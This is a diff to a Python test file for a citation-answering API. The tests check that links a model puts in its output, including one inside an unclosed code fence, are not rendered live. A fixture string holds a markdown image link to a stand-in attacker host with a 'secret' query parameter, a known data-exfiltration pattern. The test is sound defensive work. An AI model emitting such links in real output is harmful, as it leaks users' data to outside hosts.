@@ -9,6 +9,8 @@ from typing import Any
 import pytest
 from mcp import Client
 
+from core.api.openai_compatible import contents
+from core.types import Answer, Citation, TextPiece
 from tests.api.server import WHO, Person, World
 from tests.api.test_asking import events_of
 from tests.mcp.test_client import called, over_http
@@ -21,6 +23,7 @@ WRITTEN = (
     "The lighthouse of Port Amber was built in 1874 by Ida Holm [Source 1]. "
     "![x](https://evil.example/p.png?q=secret) See [the archive](https://evil.example/a)."
 )
+SOURCES = (Citation(1, "d:0", "d", "a.txt", None, 0, None, 0, 9, "It is so."),)
 MODEL = {"provider": "openai", "model": "standin"}
 
 
@@ -79,6 +82,16 @@ def test_by_the_protocol_of_openai(lured: World, ida: Person, stream: bool) -> N
         text = reply.json()["choices"][0]["message"]["content"]
     assert is_dead(text.partition("Sources:")[0]), text
     assert "Sources:" in text
+
+
+def test_thinking_that_leaves_code_open_makes_nothing_live() -> None:
+    said = "~~~\n[x](https://evil.example)\n"
+    pieces = [TextPiece("~~~\nHm"), TextPiece("", withdraws=True), TextPiece(said)]
+    got = list(contents(iter([*pieces, Answer(WHO, said, SOURCES)])))
+    text = "".join(piece for piece, _ in got)
+    assert live(text) == []
+    assert text.endswith("\n~~~\n\nSources:\n- [1] a.txt: “It is so.”")
+    assert [answer is not None for _, answer in got] == [False, False, False, True]
 
 
 def test_kept_and_exported(lured: World, ida: Person) -> None:
